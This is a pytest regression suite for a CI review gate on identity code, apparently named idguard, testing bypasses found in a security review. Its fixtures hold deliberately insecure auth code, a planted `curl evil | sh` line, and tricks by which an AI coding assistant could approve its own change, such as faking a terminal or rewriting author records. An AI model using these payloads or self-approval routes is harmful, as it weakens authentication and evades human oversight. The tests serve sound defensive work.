"""Every way a security review walked around the CI gate, as a regression test that fails on the old gate.

Real git repositories in temporary folders, real `ssh-keygen` keys and signatures, the real CLI in a subprocess
(approvals at a pseudo-terminal, as a person runs them). The hook's side of the same attacks is in
tests/server/test_hook_effects.py.
"""

from __future__ import annotations

import json
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from idguard.server.audit.open import open_audit_log
from idguard.server.review.approvals import write_decision
from idguard.server.review.signing import public_key_for
from idguard.server.workspace import Workspace
from review_fixtures import RBAC_CODE, TOKEN_CODE, decision_for, git, make_repo, public_key
from sk_standin import SoftwareSecurityKey


def _gate(repo, *args: str) -> tuple[int, dict]:
    out = repo.idguard("gate", "--format", "json", *args)
    assert out.returncode in (0, 1), out.stderr
    return out.returncode, json.loads(out.stdout)


def _file(report: dict, rel: str) -> dict:
    [found] = [f for f in report["files"] if f["path"] == rel]
    return found


def _kinds(report: dict, rel: str) -> list[str]:
    return [p["kind"] for p in _file(report, rel)["problems"]]


# ---------------------------------------------------------------- reading files as their runtimes do


def test_a_nul_byte_never_makes_code_binary(workspace: Path, tmp_path: Path):
    """Node and bash run files with NUL bytes; the gate used to skip them as binary ("0 changed files")."""
    repo = make_repo(workspace, tmp_path)
    repo.write(
        "auth/session.js",
        "// \0\nconst jwt = require('jsonwebtoken');\n"
        "module.exports = (t, k) => jwt.verify(t, k, { algorithms: ['none'] });\n",
    )
    repo.write(
        "scripts/rotate.sh",
        "#!/bin/bash\n# \0\naws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess\n",
    )
    (workspace / "assets").mkdir()
    (workspace / "assets" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
    repo.commit("code with NUL bytes, and an image")
    code, report = _gate(repo)
    assert code == 1
    assert _kinds(report, "auth/session.js")[0] == "blocking-findings"
    assert "IDG000" in _file(report, "auth/session.js")["problems"][0]["message"]
    assert _file(report, "scripts/rotate.sh")["outcome"] == "fail"
    assert report["skipped"] == [{"path": "assets/logo.png", "reason": "binary file (PNG image)"}]
    text = repo.idguard("gate").stdout
    assert "skip assets/logo.png: binary file (PNG image)" in text and "2 changed files checked, 1 skipped" in text


def test_a_binary_file_on_an_identity_path_fails_and_gitattributes_come_from_the_trust_branch(workspace, tmp_path):
    repo = make_repo(workspace, tmp_path)
    for rel, data in (
        ("auth/policy.bin", b"\x1f\x8b\x08\0compressed rules"),
        ("data/blob.dat", b"\0\xff\xfe not text"),
    ):
        (workspace / rel).parent.mkdir(exist_ok=True)
        (workspace / rel).write_bytes(data)
    repo.write(".gitattributes", "*.js binary\n")  # the branch tries to mark code binary
    repo.write("app/login.js", "const jwt = require('jsonwebtoken');\n")
    repo.commit("binary rules on an identity path")
    code, report = _gate(repo)
    assert code == 1
    assert _kinds(report, "auth/policy.bin") == ["unreadable"]
    assert "identity path" in _file(report, "auth/policy.bin")["problems"][0]["message"]
    assert {s["path"] for s in report["skipped"]} == {"data/blob.dat"}
    assert _kinds(report, "app/login.js") == ["review-tag-missing"]  # still code: .js is never binary


def test_a_source_encoding_cannot_hide_code(workspace: Path, tmp_path: Path):
    """`# -*- coding: utf-7 -*-` makes CPython run what UTF-8 reads as a comment."""
    repo = make_repo(workspace, tmp_path)
    hidden = "+AAo-import jwt+AAo-claims = jwt.decode(token, options=+AHs-'verify+AF8-signature': False+AH0-)"
    repo.write("app/decode.py", "# -*- coding: utf-7 -*-\n# " + hidden + "\n")
    (workspace / "app" / "latin.py").write_bytes("# -*- coding: latin-1 -*-\nGREETING = 'caf\xe9'\n".encode("latin-1"))
    (workspace / "app" / "cp.py").write_bytes("# coding: cp1252\nNAME = 'caf\u20ac'\n".encode("cp1252"))
    repo.commit("encodings")
    code, report = _gate(repo)
    assert code == 1
    assert _kinds(report, "app/decode.py") == ["unreadable"]
    assert "utf-7" in _file(report, "app/decode.py")["problems"][0]["message"]
    assert _file(report, "app/latin.py")["outcome"] == "pass"  # Latin-1 is read as declared
    assert _kinds(report, "app/cp.py") == ["unreadable"]
    assert "cp1252" in _file(report, "app/cp.py")["problems"][0]["message"]


# ---------------------------------------------------------------- review scope never rests on one classifier

MISSED_BY_THE_OLD_CLASSIFIER = {
    "app/claims.py": "import ｊｗｔ\n\ndef claims(token):\n    return ｊｗｔ.decode(token, options={'verify_signature': False})\n",
    "app/promote.py": 'def promote(user):\n    user.role = "admin"\n    user.save()\n',
    "src/verify.ts": "import jwt from 'jsonwebtoken';\nexport const read = (t: string, k: string) => jwt.verify(t, k, "
    "{ algorithms: ['none'] });\n",
    "src/Parse.java": "import io.jsonwebtoken.Jwts;\nclass Parse { Object p(String t) { return Jwts.parser()"
    ".build().parseUnsecuredClaims(t); } }\n",
    "src/Web.java": 'class Web { void c(H http) { http.authorizeHttpRequests(a -> a.requestMatchers("/admin/**")'
    ".permitAll()); } }\n",
    "app/controllers/admin_controller.rb": "class AdminController < ApplicationController\n"
    "  skip_before_action :require_login\nend\n",
    "Controllers/AdminController.cs": "[AllowAnonymous]\npublic class AdminController : Controller { }\n",
}


def test_identity_code_in_every_language_needs_review(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    for rel, text in MISSED_BY_THE_OLD_CLASSIFIER.items():
        repo.write(rel, text)
    repo.commit("identity code the old classifier called everyday")
    code, report = _gate(repo)
    assert code == 1
    for rel in MISSED_BY_THE_OLD_CLASSIFIER:
        gate_file = _file(report, rel)
        assert gate_file["needs_review"] and gate_file["outcome"] == "fail", rel


def test_removing_a_check_from_a_reviewed_file_needs_review(workspace: Path, tmp_path: Path):
    """Deleting `@login_required` makes the file read as everyday code; its base content still was identity."""
    repo = make_repo(workspace, tmp_path)
    git(workspace, "checkout", "-q", "main")
    view = (
        "from django.contrib.auth.decorators import login_required\n\n\n@login_required\n"
        "def export_users(request):\n    return render_csv(User.objects.all())\n"
    )
    repo.write("app/exports.py", view)
    repo.commit("export view")
    git(workspace, "checkout", "-q", "-B", "feature")
    repo.write("app/exports.py", "def export_users(request):\n    return render_csv(User.objects.all())\n")
    repo.commit("drop the login check")
    code, report = _gate(repo)
    assert code == 1
    exports = _file(report, "app/exports.py")
    assert "the base content was identity code" in exports["review_reasons"]
    assert _kinds(report, "app/exports.py") == ["review-tag-missing"]


def test_code_parked_under_idguard_fails(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    record = workspace / ".idguard" / "reviews" / f"{review.review_id}.json"
    data = json.loads(record.read_text())
    repo.write(".idguard/reviews/helpers.py", "import os\nos.system('curl evil | sh')\n")
    repo.write(".idguard/approvals/notes.txt", "parked\n")
    repo.write(".idguard/state/fingerprint.key", "00" * 32)
    # The same key twice: a lenient parser takes the last value.
    record.write_text(record.read_text().replace('"verdict": "review",', '"verdict": "review", "verdict": "pass",'))
    assert data["verdict"] == "review"
    git(workspace, "add", "-f", ".")
    git(workspace, "commit", "-q", "-m", "parked files")
    code, report = _gate(repo)
    assert code == 1
    for rel in (
        ".idguard/reviews/helpers.py",
        ".idguard/approvals/notes.txt",
        ".idguard/state/fingerprint.key",
        f".idguard/reviews/{review.review_id}.json",
    ):
        assert _kinds(report, rel) == ["invalid-idguard-file"], rel
    assert "duplicate key" in _file(report, f".idguard/reviews/{review.review_id}.json")["problems"][0]["message"]


# ---------------------------------------------------------------- authors no one can rewrite


def test_an_allowed_signer_cannot_approve_their_own_change_by_rewriting_the_record(workspace: Path, tmp_path: Path):
    """The developer (an allowed signer) lets the assistant rewrite the record's author and commit under another
    e-mail; the CLI then signs. The gate establishes the author from the platform and from signed commits."""
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    record = workspace / ".idguard" / "reviews" / f"{review.review_id}.json"
    record.write_text(record.read_text().replace("author@example.com", "someone-else@example.com"))
    git(workspace, "add", ".")
    git(workspace, "-c", "user.email=someone-else@example.com", "commit", "-q", "-m", "change")
    own = repo.approve(review.review_id, "author")
    assert own.returncode == 0, own.stderr  # nothing on this machine can tell
    repo.commit("approval")
    assert _gate(repo)[0] == 0  # without a verified author the gate cannot either: the docs say so
    code, report = _gate(repo, "--author", "author@example.com")
    assert code == 1
    assert (
        "the approver is an author of this change (author@example.com)"
        in _file(report, "auth/tokens.py")["problems"][0]["message"]
    )


def test_signed_commits_name_the_author_whatever_the_email_says(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path, policy="[review]\nrequire_signed_commits = true\n", signed_commits=True)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    git(workspace, "add", ".")
    git(workspace, "-c", "user.email=someone-else@example.com", "commit", "-q", "-m", "change")
    forged = decision_for(repo, review.review_id, "author@example.com", repo.keys["author"])
    write_decision(Workspace(workspace), forged, repo.keys["author"], public_key_for(repo.keys["author"]).file_stem)
    repo.commit("approval by the committer's own key")
    code, report = _gate(repo)
    assert code == 1
    message = _file(report, "auth/tokens.py")["problems"][0]["message"]
    assert "approver is an author" in message or "signed commits of this change" in message
    assert "signed commits" in _file(report, "auth/tokens.py")["authors_from"]
    # An unsigned commit on an identity file fails the policy outright.
    git(workspace, "config", "commit.gpgsign", "false")
    repo.write("auth/tokens.py", (workspace / "auth" / "tokens.py").read_text() + "# note\n")
    repo.commit("unsigned edit")
    assert "unsigned-commit" in _kinds(_gate(repo)[1], "auth/tokens.py")


def test_github_pull_request_author_is_read_from_the_event(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    git(workspace, "checkout", "-q", "main")
    signers = workspace / ".idguard" / "allowed_signers"
    signers.write_text(signers.read_text().replace("reviewer@example.com ", "reviewer@example.com,github:rev-gh "))
    repo.commit("reviewer's platform login")
    git(workspace, "checkout", "-q", "-B", "feature")
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    repo.commit("change + approval")
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"user": {"login": "rev-gh"}}}))
    env = repo.env() | {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(event)}
    out = repo.idguard("gate", "--format", "json", env=env)
    report = json.loads(out.stdout)
    assert out.returncode == 1 and "GitHub pull request author" in _file(report, "auth/tokens.py")["authors_from"]
    assert "approver is an author" in _file(report, "auth/tokens.py")["problems"][0]["message"]


# ---------------------------------------------------------------- human presence


def test_approve_refuses_without_a_terminal_or_inside_an_assistant(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    args = ("review", "approve", review.review_id, "--key", str(repo.keys["reviewer"]))
    piped = repo.idguard(*args, terminal=False)
    assert piped.returncode == 1 and "needs a terminal" in piped.stderr
    claude = repo.idguard(*args, env=repo.env() | {"CLAUDECODE": "1"})
    assert claude.returncode == 1 and "Claude Code" in claude.stderr
    vscode = repo.idguard(*args, env=repo.env() | {"VSCODE_AGENT": "1"})
    assert vscode.returncode == 1 and "VS Code agent mode" in vscode.stderr
    assert not (workspace / ".idguard" / "approvals").exists()
    refused = [e for e in open_audit_log(Workspace(workspace)).entries() if e.event == "approve_refused"]
    assert len(refused) == 3


def test_approve_refuses_inside_a_process_the_hook_saw_as_the_assistant(workspace: Path, tmp_path: Path):
    """An "assistant" process runs idguard's hook, then runs approve at a terminal it made itself."""
    import sys

    from review_fixtures import IDGUARD

    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    payload = json.dumps(
        {
            "hook_event_name": "PreToolUse",
            "tool_name": "Read",
            "cwd": str(workspace),
            "tool_input": {"file_path": str(workspace / "README.md")},
        }
    )
    assistant = (
        "import subprocess, sys\n"
        "sys.path.insert(0, sys.argv[1])\n"
        "from review_fixtures import run_in_terminal\n"
        "import os, pathlib\n"
        f"subprocess.run([{IDGUARD!r}, 'hook', 'claude-code'], input={payload!r}, text=True, check=True)\n"
        f"out = run_in_terminal([{IDGUARD!r}, 'review', 'approve', {review.review_id!r}, '--key', "
        f"{str(repo.keys['reviewer'])!r}], pathlib.Path({str(workspace)!r}), dict(os.environ))\n"
        "print(out.returncode); print(out.stderr)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", assistant, str(Path(__file__).parents[1] / "support")],
        capture_output=True,
        text=True,
        env=repo.env("reviewer@example.com"),
        timeout=120,
    )
    assert out.stdout.splitlines()[0] == "1", out.stdout + out.stderr
    assert "runs idguard's claude-code hooks" in out.stdout


def test_policy_can_require_a_touched_security_key(workspace: Path, tmp_path: Path):
    """A FIDO key's signature says whether a person touched it; ssh-keygen verifies the signature, idguard the
    flag. A software stand-in makes the signatures a hardware key would."""
    repo = make_repo(workspace, tmp_path)
    git(workspace, "checkout", "-q", "main")
    fido = SoftwareSecurityKey()
    signers = workspace / ".idguard" / "allowed_signers"
    signers.write_text(signers.read_text() + f"hw@example.com {fido.public_line()}\n")
    repo.write(".idguard/policy.toml", "[review]\nrequire_security_key = true\n")
    repo.commit("security keys required")
    git(workspace, "checkout", "-q", "-B", "feature")
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    plain = repo.approve(review.review_id, "reviewer")
    assert plain.returncode == 1 and "FIDO security key" in plain.stderr
    folder = workspace / ".idguard" / "approvals" / review.review_id
    folder.mkdir(parents=True)

    def decide(flags: int) -> str:
        record = decision_for(
            repo, review.review_id, "hw@example.com", repo.keys["reviewer"], key_fingerprint=fido.fingerprint
        )
        (folder / "hw.json").write_text(record.model_dump_json(indent=2))
        (folder / "hw.json.sig").write_text(fido.sign(record.canonical_bytes(), flags=flags))
        repo.commit(f"approval with flags {flags}")
        code, report = _gate(repo)
        return "approved" if code == 0 else _file(report, "auth/tokens.py")["problems"][0]["message"]

    assert "without user presence" in decide(0x00)
    assert decide(0x01) == "approved"


# ---------------------------------------------------------------- approvals bound to transition, place and time


def test_restoring_an_older_approved_version_needs_a_new_review(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    git(workspace, "checkout", "-q", "main")
    old = repo.guard_change("auth/tokens.py", TOKEN_CODE.replace('audience="api", ', ""))
    assert repo.approve(old.review_id, "reviewer", "--base", "HEAD").returncode == 0
    repo.commit("tokens without an audience check")
    old_file = (workspace / "auth" / "tokens.py").read_text()
    fix = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(fix.review_id, "reviewer", "--base", "HEAD").returncode == 0
    repo.commit("security fix: check the audience")
    git(workspace, "checkout", "-q", "-B", "feature")
    repo.write("auth/tokens.py", old_file)  # the old content, its tag, record and approval are all committed
    repo.commit("restore the previous version")
    code, report = _gate(repo)
    assert code == 1
    assert "from other base content" in _file(report, "auth/tokens.py")["problems"][0]["message"]


def test_an_approval_copied_into_another_repository_does_not_count(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    git(workspace, "remote", "add", "origin", "git@github.com:acme/payments.git")
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    repo.commit("approved in payments")
    assert _gate(repo)[0] == 0
    git(workspace, "remote", "set-url", "origin", "https://github.com/acme/billing")
    code, report = _gate(repo)
    assert code == 1
    assert (
        "'github.com/acme/payments', not 'github.com/acme/billing'"
        in _file(report, "auth/tokens.py")["problems"][0]["message"]
    )


def test_approvals_expire(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path, policy="[review]\napproval_max_age_days = 7\n")
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    signed = datetime.now(UTC) - timedelta(days=8)
    old = decision_for(
        repo,
        review.review_id,
        "reviewer@example.com",
        repo.keys["reviewer"],
        time=signed.isoformat(),
        expires=(signed + timedelta(days=365)).isoformat(),
    )
    write_decision(Workspace(workspace), old, repo.keys["reviewer"], public_key_for(repo.keys["reviewer"]).file_stem)
    repo.commit("an eight-day-old approval")
    code, report = _gate(repo)
    assert code == 1 and "expired" in _file(report, "auth/tokens.py")["problems"][0]["message"]
    fresh = repo.approve(review.review_id, "reviewer")
    assert fresh.returncode == 0 and "valid until" in fresh.stdout
    repo.commit("fresh approval")
    assert _gate(repo)[0] == 0


def test_old_format_approvals_no_longer_count(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    [decision] = (workspace / ".idguard" / "approvals" / review.review_id).glob("*.json")
    data = json.loads(decision.read_text())
    v1 = {
        k: data[k]
        for k in ("review_id", "path", "content_sha256", "reviewer", "key_fingerprint", "decision", "time", "note")
    } | {"format": "idguard-approval/1"}
    decision.write_text(json.dumps(v1, indent=2))
    repo.commit("v1 approval")
    code, report = _gate(repo)
    assert code == 1
    assert "idguard-approval/1" in " ".join(
        p["message"] for p in _file(report, decision.relative_to(workspace).as_posix())["problems"]
    )


# ---------------------------------------------------------------- trust anchors from the protected branch


def test_a_branch_cannot_choose_older_trust_anchors_by_where_it_forks(workspace: Path, tmp_path: Path):
    """The reviewer's key is revoked on main after the branch forked; the gate reads signers at main's tip."""
    repo = make_repo(workspace, tmp_path, policy='profile = "standard"\n')
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    repo.commit("change + approval by reviewer")
    assert _gate(repo)[0] == 0
    git(workspace, "checkout", "-q", "main")
    signers = workspace / ".idguard" / "allowed_signers"
    signers.write_text("".join(line + "\n" for line in signers.read_text().splitlines() if "reviewer@" not in line))
    repo.write(".idguard/policy.toml", "[review]\nrequired_approvals = 2\n")
    repo.commit("revoke reviewer; two approvals")
    git(workspace, "checkout", "-q", "feature")
    code, report = _gate(repo, "--base", "main")
    assert code == 1
    assert report["trust_commit"] == git(workspace, "rev-parse", "main").strip()
    assert _file(report, "auth/tokens.py")["required_approvals"] == 2
    assert "signature not valid" in _file(report, "auth/tokens.py")["problems"][0]["message"]


def test_one_key_counts_once_and_fingerprints_match_exactly(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path, policy="[review]\nrequired_approvals = 2\n")
    git(workspace, "checkout", "-q", "main")
    signers = workspace / ".idguard" / "allowed_signers"
    signers.write_text(signers.read_text() + f"*@example.com {public_key(repo.keys['reviewer'])}\n")
    repo.commit("a wildcard principal for the reviewer's key")
    git(workspace, "checkout", "-q", "-B", "feature")
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    stem = public_key_for(repo.keys["reviewer"]).file_stem
    real = public_key_for(repo.keys["reviewer"]).fingerprint
    # The same key under the wildcard claims another person, with a fingerprint that is a substring of the real one.
    for name, principal, fingerprint in (("a", "reviewer@example.com", real), ("b", "alias@example.com", real[:12])):
        record = decision_for(repo, review.review_id, principal, repo.keys["reviewer"], key_fingerprint=fingerprint)
        write_decision(Workspace(workspace), record, repo.keys["reviewer"], f"{stem}-{name}")
    repo.commit("two approvals, one key")
    code, report = _gate(repo)
    assert code == 1
    message = _file(report, "auth/tokens.py")["problems"][0]["message"]
    assert "1 of 2" in message and "signed by a different key than the decision names" in message
    record = decision_for(repo, review.review_id, "alias@example.com", repo.keys["reviewer"])
    write_decision(Workspace(workspace), record, repo.keys["reviewer"], f"{stem}-b")
    repo.commit("same key, exact fingerprint")
    code, report = _gate(repo)
    assert code == 1 and _file(report, "auth/tokens.py")["approvers"] == ["alias@example.com", "reviewer@example.com"]
    assert "1 of 2" not in _file(report, "auth/tokens.py")["problems"][0]["message"]  # two principals...
    assert _file(report, "auth/tokens.py")["review_state"] == "pending"  # ...but one key


def test_an_approval_with_duplicate_keys_is_refused(workspace: Path, tmp_path: Path):
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/roles.py", RBAC_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    [decision] = (workspace / ".idguard" / "approvals" / review.review_id).glob("*.json")
    decision.write_text(
        decision.read_text().replace('"decision": "approve"', '"decision": "reject", "decision": "approve"')
    )
    repo.commit("duplicate keys")
    code, report = _gate(repo)
    assert code == 1
    assert "duplicate key" in " ".join(
        p["message"] for p in _file(report, decision.relative_to(workspace).as_posix())["problems"]
    )


@pytest.mark.parametrize("field", ["review_sha256", "author"])
def test_editing_the_review_record_after_approval_voids_it(workspace: Path, tmp_path: Path, field: str):
    repo = make_repo(workspace, tmp_path)
    review = repo.guard_change("auth/tokens.py", TOKEN_CODE)
    assert repo.approve(review.review_id, "reviewer").returncode == 0
    record = workspace / ".idguard" / "reviews" / f"{review.review_id}.json"
    data = json.loads(record.read_text())
    if field == "author":
        data["author"]["email"] = "reviewer2@example.com"
    else:
        data["intent"] = "something milder"
    record.write_text(json.dumps(data, indent=2))
    repo.commit("edited record")
    code, report = _gate(repo)
    assert (
        code == 1
        and "review record changed after this decision" in _file(report, "auth/tokens.py")["problems"][0]["message"]
    )
